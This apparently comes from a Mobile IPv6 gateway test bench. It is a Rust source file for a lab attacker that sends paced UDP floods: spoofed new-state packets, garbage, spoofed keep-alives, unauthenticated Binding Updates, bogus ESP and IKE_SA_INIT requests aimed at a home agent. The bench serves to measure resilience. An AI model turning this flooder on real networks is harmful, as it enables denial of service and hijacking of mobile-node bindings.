//! The attacker of the bench's `dos` part: one IPv4 address sending a paced flood of UDP
//! datagrams to the gateway from many source ports with sendmmsg (separate datagrams, no
//! GSO), until its time is up or
//! SIGTERM. Each kind is what a hostile sender can do without knowing anything but the
//! gateway's address, the mobile-node prefix and (by sniffing) a mobile node's tunnel
//! address (toward a DSMIPv6 home agent: its home prefix and a home address). It prints one JSON line: datagrams sent, seconds, rate and its own CPU time.
//!
//! The control run sends the same datagrams at the same rate to an address whose route
//! ends in a veth pair inside the attacker's namespace: the attacker burns the same CPU on the
//! shared machine without the gateway seeing a packet.

use m6t_linux::batch::SendBatch;
use m6t_linux::udp::{self, Udp};
use m6t_wire::mh::{bu_flags, MhMessage, MhRepr, MobilityOption};
use m6t_wire::mip6::{self, HomeIn};
use m6t_wire::{checksum, keepalive, Ipv6Repr};
use std::net::{Ipv4Addr, Ipv6Addr, SocketAddrV4};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

/// What the flood is made of.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// Valid first packets (ICMPv6 echo requests to the HA) from ever new sources inside
    /// the mobile-node prefix: each asks the gateway for a new state.
    NewState,
    /// Random bytes, a third of them starting like IPv6.
    Garbage,
    /// Valid packets from a mobile node's tunnel address (another node's state).
    Spoof,
    /// New-state attempts and garbage alternately.
    NewStateGarbage,
    /// Keep-alives from sources inside the prefix, half of them from the spoofed address.
    Keepalive,
    /// Toward a DSMIPv6 home agent's UDP 4191: Binding Updates without ESP (RFC 5555
    /// section 4.1's format: IPv6 from a home address to the home agent, a Mobility Header
    /// BU with the IPv4 care-of address option), half from the registered home address
    /// (`spoof`), half from other addresses of the home prefix (counting up from `base`).
    HaBu,
    /// Toward a home agent's UDP 4500: ESP with a random SPI, and (when an SPI is given)
    /// with the mobile node's inbound SPI, sequence numbers ahead of its window and a
    /// wrong ICV.
    HaEsp,
    /// Toward a home agent's UDP 4500: IKE_SA_INIT requests behind the non-ESP marker,
    /// each with a new initiator SPI (valid proposals and key exchange: each one the
    /// responder accepts costs it a Diffie-Hellman and a half-open SA).
    HaIke,
}

impl Kind {
    /// Every kind, in the bench's order.
    pub const ALL: [Kind; 5] = [
        Kind::NewState,
        Kind::Garbage,
        Kind::Spoof,
        Kind::NewStateGarbage,
        Kind::Keepalive,
    ];
    /// The floods toward a DSMIPv6 home agent.
    pub const HA: [Kind; 3] = [Kind::HaBu, Kind::HaEsp, Kind::HaIke];

    /// The name on the command line and in the bench's figures.
    pub fn name(self) -> &'static str {
        match self {
            Kind::NewState => "new-state",
            Kind::Garbage => "garbage",
            Kind::Spoof => "spoof",
            Kind::NewStateGarbage => "new-state+garbage",
            Kind::Keepalive => "keepalive",
            Kind::HaBu => "ha-bu",
            Kind::HaEsp => "ha-esp",
            Kind::HaIke => "ha-ike",
        }
    }
}

impl std::str::FromStr for Kind {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, String> {
        Kind::ALL
            .into_iter()
            .chain(Kind::HA)
            .find(|k| k.name() == s)
            .ok_or_else(|| format!("unknown flood `{s}`"))
    }
}

/// What the flooder is told.
#[derive(Debug, Clone)]
pub struct FloodArgs {
    /// Where to send.
    pub target: SocketAddrV4,
    /// The flood's kind.
    pub kind: Kind,
    /// Datagrams per second.
    pub rate: u32,
    /// Longest run, seconds (SIGTERM ends it sooner).
    pub secs: f64,
    /// Source ports (one socket each).
    pub ports: usize,
    /// The HA address (destination of the IPv6 packets).
    pub ha: Ipv6Addr,
    /// Base of the new sources (inside the mobile-node prefix).
    pub base: Ipv6Addr,
    /// The spoofed tunnel address (the home agent's floods: the registered home address).
    pub spoof: Ipv6Addr,
    /// The home agent's floods: an inbound SPI of the mobile node's (0: none known).
    pub spi: u32,
}

impl FloodArgs {
    /// Starts the flooder (`tools flood`, the `m6t-lab` binary) in the attacker's
    /// namespace as the process `flood`, with these arguments.
    pub(crate) fn spawn(
        &self,
        lab: &mut crate::lab::Lab,
        tools: &std::path::Path,
    ) -> crate::netns::LabResult<()> {
        let args = [
            tools.display().to_string(),
            "flood".into(),
            "--target".into(),
            self.target.to_string(),
            "--kind".into(),
            self.kind.name().into(),
            "--rate".into(),
            self.rate.to_string(),
            "--secs".into(),
            self.secs.to_string(),
            "--ports".into(),
            self.ports.to_string(),
            "--ha".into(),
            self.ha.to_string(),
            "--base".into(),
            self.base.to_string(),
            "--spoof".into(),
            self.spoof.to_string(),
            "--spi".into(),
            self.spi.to_string(),
        ];
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        lab.net.spawn("atk", "flood", &args)
    }
}

/// Packets in the pool the flood cycles through (built before the clock starts).
const POOL: usize = 8192;
/// Datagrams per sendmmsg.
const BATCH: usize = 32;

fn echo_request(src: Ipv6Addr, dst: Ipv6Addr, seq: u16) -> Vec<u8> {
    let mut p = vec![0u8; 56];
    let _ = Ipv6Repr {
        src,
        dst,
        next_header: 58,
        payload_len: 16,
        hop_limit: 64,
    }
    .emit(&mut p);
    p[40] = 128;
    p[44..46].copy_from_slice(&0x6d36u16.to_be_bytes());
    p[46..48].copy_from_slice(&seq.to_be_bytes());
    p[48..56].copy_from_slice(b"m6tflood");
    let sum = checksum::accumulate(checksum::pseudo_header(&src, &dst, 58, 16), &p[40..56]);
    p[42..44].copy_from_slice(&checksum::finish(sum).to_be_bytes());
    p
}

/// An unprotected Binding Update in UDP (RFC 5555 section 4.1): from home address `hoa`,
/// the IPv4 care-of address the attacker's.
fn binding_update(hoa: Ipv6Addr, ha: Ipv6Addr, seq: u16) -> Vec<u8> {
    let mh = MhRepr {
        msg: MhMessage::Bu {
            seq,
            flags: bu_flags::A | bu_flags::H,
            lifetime: 100,
        },
        options: vec![
            MobilityOption::Ipv4HomeAddress {
                prefix_len: 32,
                p: false,
                addr: Ipv4Addr::UNSPECIFIED,
            },
            MobilityOption::Ipv4CareOfAddress(ATTACKER),
        ],
    };
    let mut p = vec![0u8; 40 + 24 + mh.emit_len()];
    let n = mip6::emit(hoa, ha, HomeIn::Source, &mh, &mut p).unwrap_or(0);
    p.truncate(n);
    p
}

/// The attacker's address (the BUs' IPv4 care-of address option).
const ATTACKER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 66);

/// ESP (RFC 4303 section 2) that no SA opens: a random SPI, or `spi` with a sequence number
/// ahead of any window and random bytes where the ICV is checked.
fn bad_esp(rng: &mut Rng, spi: u32, i: usize) -> Vec<u8> {
    // A multiple of 4 (RFC 4303 section 2.4) so that the wrong ICV, not the length, drops it.
    let len = 64 + 4 * (rng.next() % 40) as usize;
    let mut p: Vec<u8> = (0..len).map(|_| rng.next() as u8).collect();
    let spi = if spi != 0 && i % 2 == 0 {
        spi
    } else {
        // 1..=255 are reserved and 0 is the non-ESP marker: never those.
        (rng.next() as u32) | 0x100
    };
    p[0..4].copy_from_slice(&spi.to_be_bytes());
    p[4..8].copy_from_slice(&(0x4000_0000u32 + i as u32).to_be_bytes());
    p
}

/// An IKE_SA_INIT request (the fixture initiator's, RFC 7296 section 1.2) behind the
/// non-ESP marker (RFC 3948 section 2.2) with a new initiator SPI.
fn ike_sa_init(rng: &mut Rng) -> Vec<u8> {
    let init = &m6t_ike::fixtures::transcript()[0];
    let mut p = Vec::with_capacity(4 + init.len());
    p.extend_from_slice(&[0; 4]);
    p.extend_from_slice(init);
    p[4..12].copy_from_slice(&(rng.next() | 1).to_be_bytes());
    p
}

/// A deterministic generator (xorshift64*): the flood is the same every run.
struct Rng(u64);
impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
}

/// The packets of a flood: new sources count up from `base` past the pool (the pool is
/// rebuilt with the next sources each time it is used up, so new-state attempts never
/// repeat a source).
fn pool(a: &FloodArgs, round: u64, rng: &mut Rng) -> Vec<Vec<u8>> {
    let src = |i: usize| {
        Ipv6Addr::from(u128::from(a.base) + u128::from(round) * POOL as u128 + i as u128 + 1)
    };
    let garbage = |rng: &mut Rng, i: usize| {
        let len = 1 + (rng.next() % 200) as usize;
        let mut p: Vec<u8> = (0..len).map(|_| rng.next() as u8).collect();
        if i % 3 == 0 {
            p[0] = 0x60;
        }
        p
    };
    (0..POOL)
        .map(|i| match a.kind {
            Kind::NewState => echo_request(src(i), a.ha, i as u16),
            Kind::Garbage => garbage(rng, i),
            Kind::Spoof => echo_request(a.spoof, a.ha, i as u16),
            Kind::NewStateGarbage => {
                if i % 2 == 0 {
                    echo_request(src(i), a.ha, i as u16)
                } else {
                    garbage(rng, i)
                }
            }
            Kind::Keepalive => {
                let s = if i % 2 == 0 { a.spoof } else { src(i) };
                keepalive::emit(s, keepalive::KEEPALIVE_PEER).to_vec()
            }
            Kind::HaBu => {
                let s = if i % 2 == 0 { a.spoof } else { src(i) };
                binding_update(s, a.ha, i as u16)
            }
            Kind::HaEsp => bad_esp(rng, a.spi, i),
            Kind::HaIke => ike_sa_init(rng),
        })
        .collect()
}

/// CPU time of this process so far, seconds (user + system, all threads).
fn own_cpu() -> f64 {
    let mut u = std::mem::MaybeUninit::<libc::rusage>::uninit();
    // SAFETY: getrusage fills the struct it is given; RUSAGE_SELF is always valid.
    let r = unsafe { libc::getrusage(libc::RUSAGE_SELF, u.as_mut_ptr()) };
    if r != 0 {
        return f64::NAN;
    }
    // SAFETY: initialised by the successful call above.
    let u = unsafe { u.assume_init() };
    let t = |v: libc::timeval| v.tv_sec as f64 + v.tv_usec as f64 / 1e6;
    t(u.ru_utime) + t(u.ru_stime)
}

/// Runs the flood and prints its JSON line.
pub fn run(a: FloodArgs) -> Result<(), String> {
    let stop = Arc::new(AtomicBool::new(false));
    for sig in [signal_hook::consts::SIGINT, signal_hook::consts::SIGTERM] {
        signal_hook::flag::register(sig, Arc::clone(&stop)).map_err(|e| e.to_string())?;
    }
    let socks: Vec<Udp> = (0..a.ports.max(1))
        .map(|_| udp::listen(Ipv4Addr::UNSPECIFIED, 0).map_err(|e| format!("socket: {e}")))
        .collect::<Result<_, _>>()?;
    // One sendmmsg of separate datagrams per batch, no GSO: each datagram reaches the
    // gateway as a packet of its own (GRO may still merge them on a real NIC).
    let mut batch = SendBatch::without_gso(BATCH);
    let mut rng = Rng(0x6d36_7400_dead_beef);
    let mut round = 0u64;
    let mut packets = pool(&a, round, &mut rng);
    let cpu0 = own_cpu();
    let t0 = Instant::now();
    let limit = Duration::from_secs_f64(a.secs);
    let mut sent: u64 = 0;
    let mut errors: u64 = 0;
    let mut k = 0usize;
    let mut sock = 0usize;
    let mut drain = [0u8; 2048];
    while !stop.load(Ordering::Relaxed) && t0.elapsed() < limit {
        // Paced per batch: the due time of the next batch at `rate`.
        let due = Duration::from_secs_f64(sent as f64 / f64::from(a.rate.max(1)));
        if let Some(w) = due.checked_sub(t0.elapsed()) {
            if w > Duration::from_micros(200) {
                std::thread::sleep(w);
            }
        }
        for _ in 0..BATCH {
            batch.push(&packets[k], a.target);
            k += 1;
            if k == POOL {
                k = 0;
                if matches!(
                    a.kind,
                    Kind::NewState | Kind::NewStateGarbage | Kind::Keepalive | Kind::HaIke
                ) {
                    round += 1;
                    packets = pool(&a, round, &mut rng);
                }
            }
        }
        batch.flush(&socks[sock]);
        errors += batch.take_errors();
        sent += BATCH as u64;
        // Whatever the gateway answers (keep-alive echoes, ICMPv6 errors) must not fill the
        // sockets' buffers; one socket read per batch keeps up.
        while socks[sock].sock.recv(&mut drain).is_ok() {}
        sock = (sock + 1) % socks.len();
    }
    let secs = t0.elapsed().as_secs_f64();
    let cpu = own_cpu() - cpu0;
    println!(
        "{{\"kind\":\"{}\",\"sent\":{sent},\"errors\":{errors},\"secs\":{secs:.3},\"pps\":{:.0},\"cpu\":{:.3}}}",
        a.kind.name(),
        (sent - errors.min(sent)) as f64 / secs,
        cpu / secs
    );
    Ok(())
}
